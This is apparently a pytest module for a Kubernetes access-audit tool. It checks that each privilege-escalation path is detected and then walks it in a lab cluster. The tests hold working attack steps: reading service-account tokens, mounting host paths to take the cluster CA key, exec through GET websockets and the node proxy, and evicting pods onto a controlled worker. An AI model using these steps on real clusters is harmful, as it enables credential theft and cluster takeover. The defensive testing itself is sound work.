"""Ways that go through pods and hosts, walked to their end where both are real: kubeadm's own.

Whoever walks them has that way's rules alone; what they come by, a token or a key, is used at last.
"""

import json
import subprocess
import sys
from base64 import b64decode, b64encode
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from shipkeeper.sandbox.lab import Lab
from shipkeeper.sandbox.lab.images import BUSYBOX, PAUSE
from tests.access.forgery import forged
from tests.access.servers import with_credentials
from tests.access.ways import NAMESPACE, WAYS, Rule, bound, granted, rule
from tests.access.world import Manifest
from tests.cli.run import SHIPKEEPER
from tests.nodes.fleet.lab_user import eventually
from tests.operator.harbour import KUBECTL
from tests.sandbox.lab.trace import Kubectl

TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
CA_KEY = "/etc/kubernetes/pki/ca.key"
PRIZE = b"prize"
# Both are cluster-admin; pods of the second one's are of one Deployment alone.
MIGHTY = ("mighty", "moved")
# Ways by name, and what besides is needed to go them with kubectl, and leads nowhere.
WALKED: dict[str, tuple[str, tuple[Rule, ...]]] = {
    "create-pods": ("path-02", ()),
    "create-deployments": ("path-02", ()),
    "patch-deployments": ("path-03", (rule("get", "deployments", "apps"),)),
    "patch-pods": ("path-03", (rule("get", "pods"),)),
    "exec": ("path-04", (rule("get", "pods"),)),
    "get-exec": ("path-04", ()),
    "node-proxy": ("path-05", ()),
    "volume": ("path-02", ()),
    "steal": ("path-16", (rule("get", "nodes"),)),
}
_RULES = {way.name: (way.namespace, way.rules) for way in WAYS}
_RULES["get-exec"] = (NAMESPACE, (rule("get", "pods/exec"),))


class Thieves:
    """Users of a lab who hold the rules of one way each, and its administrator who looks on."""

    def __init__(self, lab: Lab, place: Path) -> None:
        self.lab = lab
        self.place = place
        self.admin = self.with_kubeconfig(lab.kubeconfig)
        self._key = self.of_host("cp1", CA_KEY)
        self._certificate = self.of_host("cp1", CA_KEY.replace(".key", ".crt"))

    def of_host(self, host: str, path: str) -> bytes:
        """A file of a host's, for the test alone: thieves must come by it themselves."""
        return (self.lab.host(host).root / path.lstrip("/")).read_bytes()

    def with_kubeconfig(self, path: Path) -> Kubectl:
        return Kubectl(
            self.lab.inside(
                *("env", "KUBECTL_REMOTE_COMMAND_WEBSOCKETS=false"),
                *(KUBECTL, "--kubeconfig", str(path)),
            )
        )

    def kubeconfig(self, name: str) -> Path:
        """The kubeconfig of the user who holds a way's rules."""
        credentials = forged(self._certificate, self._key, f"way-{name}", "thieves")
        return self.bearing(name, **credentials)

    def bearing(self, name: str, **credentials: str) -> Path:
        """A kubeconfig with what somebody came by."""
        return with_credentials(self.lab.kubeconfig, self.place / name, credentials)

    def __call__(self, name: str) -> Kubectl:
        return self.with_kubeconfig(self.kubeconfig(name))

    def said(self, pod: str) -> str:
        """What a pod of a thief's says to its maker, once it says something.

        It could as well send it to wherever the thief listens.
        """
        found: list[str] = []

        def says() -> bool:
            done = subprocess.run(
                self.lab.inside(
                    KUBECTL, "--kubeconfig", str(self.lab.kubeconfig), "-n", NAMESPACE, "logs", pod
                ),
                capture_output=True,
                text=True,
                check=False,
                timeout=60,
            )
            found[:] = [done.stdout]
            return not done.returncode and bool(done.stdout.strip())

        eventually(says, lambda: self.admin("get", "pods", "-A", "-o", "wide"))
        return found[0]

    def take_prize(self, **credentials: str) -> None:
        """With a token or a pair that was come by, read what only administrators can."""
        own = self.with_kubeconfig(self.bearing("stolen", **credentials))
        require_prize(own)

    def take_prize_as_authority(self, key: str) -> None:
        """With the cluster's own key; its certificate is known to everybody."""
        assert "PRIVATE KEY" in key
        self.take_prize(**forged(self._certificate, key.encode(), "thief", "system:masters"))


def require_prize(own: Kubectl) -> None:
    found = json.loads(own("get", "secret", "prize", "-n", "kube-system", "-o", "json"))
    assert b64decode(found["data"]["key"]) == PRIZE


def pod(name: str, script: str, **spec: Any) -> Manifest:
    container = {"name": "main", "image": BUSYBOX, "command": ["sh", "-c", script]}
    container |= spec.pop("container", {})
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "namespace": NAMESPACE, "labels": {"app": name}},
        "spec": {"containers": [container], "terminationGracePeriodSeconds": 0, **spec},
    }


def deployment(name: str, script: str, account: str, **spec: Any) -> Manifest:
    made = pod(name, script, serviceAccountName=account, **spec)
    template = {"metadata": {"labels": {"app": name}}, "spec": made["spec"]}
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": name, "namespace": NAMESPACE},
        "spec": {"selector": {"matchLabels": {"app": name}}, "template": template},
    }


def _town() -> Iterator[Manifest]:
    yield {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": NAMESPACE}}
    secret = {"apiVersion": "v1", "kind": "Secret", "data": {"key": b64encode(PRIZE).decode()}}
    yield {**secret, "metadata": {"name": "prize", "namespace": "kube-system"}}
    for name in MIGHTY:
        metadata = {"name": name, "namespace": NAMESPACE}
        yield {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": metadata}
        yield granted(name, "cluster-admin", {"kind": "ServiceAccount", **metadata})
    idle = "sleep 100000"
    yield pod("target", idle, serviceAccountName="mighty", nodeName="w1")
    yield deployment("app", idle, "default")
    # Its nodes are chosen by the scheduler.
    yield deployment("moving", idle, "moved")
    for name, (_, besides) in WALKED.items():
        namespace, rules = _RULES[name]
        yield from bound(name, namespace, (*rules, *besides))


@pytest.fixture(scope="module")
def thieves(lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Thieves]:
    made = Thieves(lab, tmp_path_factory.mktemp("thieves"))
    objects = list(_town())
    made.admin("apply", "-f", "-", stdin=listed(objects))
    running = ("pod/target", "deployment/app", "deployment/moving")
    made.admin("-n", NAMESPACE, "wait", "--for=condition=Ready", running[0], "--timeout=110s")
    for each in running[1:]:
        made.admin("-n", NAMESPACE, "rollout", "status", each, "--timeout=110s")
    yield made
    objects.reverse()
    made.admin("delete", "--wait=false", "--ignore-not-found", "-f", "-", stdin=listed(objects))


def listed(objects: list[Manifest]) -> str:
    return json.dumps({"apiVersion": "v1", "kind": "List", "items": objects})


def test_each_way_is_found(lab: Lab, thieves: Thieves) -> None:
    command = (SHIPKEEPER, "access", "audit", "-o", "json", "--fail-on", "never")
    words = lab.inside(*command, "--kubeconfig", str(lab.kubeconfig))
    done = subprocess.run(words, capture_output=True, text=True, check=True, timeout=200)
    told = json.loads(done.stdout)["findings"]
    for name, (path, _) in WALKED.items():
        found = {each["rule"] for each in told if each.get("target") == f"user/way-{name}"}
        assert path in found, (name, found)


def test_a_pod_of_ones_own_has_the_token_of_any_account(thieves: Thieves) -> None:
    """2"""
    body = pod("mine", f"cat {TOKEN}", serviceAccountName="mighty")
    thieves("create-pods")("create", "-f", "-", stdin=json.dumps(body))
    thieves.take_prize(token=thieves.said("mine"))


def test_a_privileged_pod_reads_the_keys_of_the_control_plane(thieves: Thieves) -> None:
    """2 and 18"""
    body = pod(
        "root",
        f"cat /host{CA_KEY}",
        nodeName="cp1",
        container={
            "securityContext": {"privileged": True},
            "volumeMounts": [{"name": "host", "mountPath": "/host"}],
        },
        volumes=[{"name": "host", "hostPath": {"path": "/"}}],
    )
    thieves("create-pods")("create", "-f", "-", stdin=json.dumps(body))
    thieves.take_prize_as_authority(thieves.said("root"))


def test_a_controller_makes_the_pod(thieves: Thieves) -> None:
    """2"""
    body = deployment("mine-too", f"cat {TOKEN}; sleep 100000", "mighty")
    thieves("create-deployments")("create", "-f", "-", stdin=json.dumps(body))
    thieves.take_prize(token=thieves.said("deployment/mine-too"))


def test_a_workload_becomes_what_one_likes(thieves: Thieves) -> None:
    """3"""
    container = {"name": "main", "command": ["sh", "-c", f"cat {TOKEN}; sleep 100000"]}
    spec = {"serviceAccountName": "mighty", "containers": [container]}
    change = {"spec": {"template": {"spec": spec}}}
    patch(thieves("patch-deployments"), "deployment", "app", change)
    thieves.admin("-n", NAMESPACE, "rollout", "status", "deployment/app", "--timeout=110s")
    thieves.take_prize(token=thieves.said("deployment/app"))


def test_an_image_of_ones_own_starts_in_anothers_pod(thieves: Thieves) -> None:
    """3"""
    change = {"spec": {"containers": [{"name": "main", "image": PAUSE}]}}
    patch(thieves("patch-pods"), "pod", "target", change)

    def runs() -> bool:
        words = ("get", "pod", "target", "-n", NAMESPACE, "-o", "json")
        (status,) = json.loads(thieves.admin(*words))["status"]["containerStatuses"]
        return status["image"] == PAUSE and status["restartCount"] == 1 and status["ready"]

    eventually(runs, lambda: thieves.admin("get", "pods", "-A", "-o", "wide"))


def patch(own: Kubectl, kind: str, name: str, change: dict[str, Any]) -> None:
    own("-n", NAMESPACE, "patch", kind, name, "-p", json.dumps(change))


def test_a_command_in_anothers_pod(thieves: Thieves) -> None:
    """4"""
    token = thieves("exec")("-n", NAMESPACE, "exec", "target", "--", "cat", TOKEN)
    thieves.take_prize(token=token)


@pytest.mark.parametrize(
    ("name", "path"),
    [
        ("get-exec", f"/api/v1/namespaces/{NAMESPACE}/pods/target/exec?container=main&stdout=1"),
        ("node-proxy", f"/api/v1/nodes/w1/proxy/exec/{NAMESPACE}/target/main?output=1"),
    ],
)
def test_a_command_by_get_alone(thieves: Thieves, name: str, path: str) -> None:
    """4 and 5: a websocket begins as a GET."""
    words = (sys.executable, "-m", "tests.access.websocket", str(thieves.kubeconfig(name)))
    command = thieves.lab.inside(*words, f"{path}&command=cat&command={TOKEN}")
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=60)
    assert not done.returncode, done.stderr
    thieves.take_prize(token=done.stdout)


def test_a_volume_of_a_hosts_disk(thieves: Thieves) -> None:
    """13 and 18"""
    size = {"storage": "1Gi"}
    common = {"accessModes": ["ReadWriteOnce"], "storageClassName": ""}
    disk: Manifest = {
        "apiVersion": "v1",
        "kind": "PersistentVolume",
        "metadata": {"name": "way-volume"},
        "spec": {**common, "capacity": size, "hostPath": {"path": "/etc/kubernetes"}},
    }
    claim: Manifest = {
        "apiVersion": "v1",
        "kind": "PersistentVolumeClaim",
        "metadata": {"name": "disk", "namespace": NAMESPACE},
        "spec": {**common, "volumeName": "way-volume", "resources": {"requests": size}},
    }
    body = pod(
        "disk",
        CA_KEY.replace("/etc/kubernetes", "cat /disk"),
        nodeName="cp1",
        container={"volumeMounts": [{"name": "disk", "mountPath": "/disk"}]},
        volumes=[{"name": "disk", "persistentVolumeClaim": {"claimName": "disk"}}],
    )
    own = thieves("volume")
    for each in (disk, claim, body):
        own("create", "-f", "-", stdin=json.dumps(each))
    try:
        thieves.take_prize_as_authority(thieves.said("disk"))
    finally:
        thieves.admin("delete", "pv", "way-volume", "--wait=false")


def test_a_pod_is_driven_to_a_host_of_ones_own(lab: Lab, thieves: Thieves) -> None:
    """16 and 18: the thief is root on one worker, and wants a pod of another."""
    before = moving(thieves)
    ours, *others = sorted(
        (each.name for each in lab.hosts if each.name != "cp1"),
        key=lambda name: name == before["spec"]["nodeName"],
    )
    assert not lab.run(ours, "sh", "-c", stolen(before), check=False).stdout
    own = thieves("steal")
    own("cordon", *others)
    try:
        name = before["metadata"]["name"]
        eviction = {"apiVersion": "policy/v1beta1", "kind": "Eviction", "metadata": {"name": name}}
        path = f"/api/v1/namespaces/{NAMESPACE}/pods/{name}/eviction"
        own("create", "--raw", path, "-f", "-", stdin=json.dumps(eviction))
        thieves.admin("-n", NAMESPACE, "rollout", "status", "deployment/moving", "--timeout=110s")
        after = moving(thieves)
        assert after["spec"]["nodeName"] == ours
        thieves.take_prize(token=lab.run(ours, "sh", "-c", stolen(after)).stdout)
    finally:
        thieves.admin("uncordon", *others)


def moving(thieves: Thieves) -> Manifest:
    """The one pod that runs of the Deployment `moving`."""
    found: list[Manifest] = []

    def is_one() -> bool:
        words = ("get", "pods", "-n", NAMESPACE, "-l", "app=moving", "-o", "json")
        pods = json.loads(thieves.admin(*words))["items"]
        found[:] = [each for each in pods if "deletionTimestamp" not in each["metadata"]]
        return len(found) == 1 and found[0]["status"]["phase"] == "Running"

    eventually(is_one, lambda: thieves.admin("get", "pods", "-A", "-o", "wide"))
    return found[0]


def stolen(running: Manifest) -> str:
    """Prints a pod's token from the disk of the host that it runs on."""
    return f"cat /var/lib/kubelet/pods/{running['metadata']['uid']}/volumes/*/*/token"
